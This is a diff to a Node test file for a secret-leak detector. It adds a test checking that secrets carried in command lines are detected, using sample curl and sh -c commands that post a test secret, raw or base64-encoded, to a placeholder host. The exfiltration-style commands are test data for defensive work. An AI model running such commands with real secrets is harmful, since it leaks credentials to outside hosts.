@@ -6,11 +6,12 @@ import { afterEach, beforeEach, describe, it } from 'node:test';
 import {
   bodyOfInit,
   carriedByBody,
+  carriedByCommand,
   carriedByHttp,
   carriedByHttpBody,
   carriedByName,
   carriedByUndici,
-} from '../../instrumentations/net/carried-secrets.ts';
+} from '../../instrumentations/carried-secrets.ts';
 import { forgetSecrets, secretMarks } from '../../src/secrets/known-secrets.ts';
 
 const SEED = 'sEdTM1uX8pu2do5XvTnutH6HsouMaM2';
@@ -161,6 +162,32 @@ describe('a secret in a request', () => {
       'selector1-long-name._domainkey.example.com',
     ])
       assert.equal(byName(name), undefined, name);
+  });
+
+  it('is found in a command line where nothing says that one belongs there', () => {
+    const byCommand = (...argv: string[]) => carriedByCommand(argv)?.where;
+    const json = JSON.stringify({ k: SEED });
+    const blob = Buffer.from(`{"host":"build-7","k":"${SEED}"}`).toString('base64');
+    assert.equal(byCommand('curl', '-d', SEED, 'https://a.example'), 'the command line');
+    assert.equal(byCommand('curl', '-d', json, 'https://a.example'), 'the field k of the command line');
+    assert.equal(byCommand('curl', `https://a.example/?k=${SEED}`), 'the query k');
+    assert.equal(byCommand('sh', '-c', `curl -s -d '${json}' https://a.example`), 'the field k of the command line');
+    assert.equal(
+      byCommand('sh', '-c', `curl -s "https://a.example/?d=${blob}" >/dev/null`),
+      'the field k of the query d',
+    );
+    for (const argv of [
+      ['curl', '-H', `Authorization: Bearer ${HALF}`, 'https://a.example'],
+      ['sh', '-c', `curl -H "X-Api-Key: ${HALF}" https://a.example`],
+      ['tool', '--token', HALF],
+      ['curl', '-u', `bob:${HALF}`],
+      ['git', 'push', `https://x-access-token:${HALF}@git.example/a.git`],
+      ['curl', 'https://a.example', '--data', 'nothing'],
+      ['curl', `https://a.example/?api_key=${HALF}`],
+      ['curl', 'https://a.example'],
+      [],
+    ])
+      assert.equal(byCommand(...argv), undefined, argv.join(' '));
   });
 
   it('is found in a body that node:http has not sent yet', async () => {
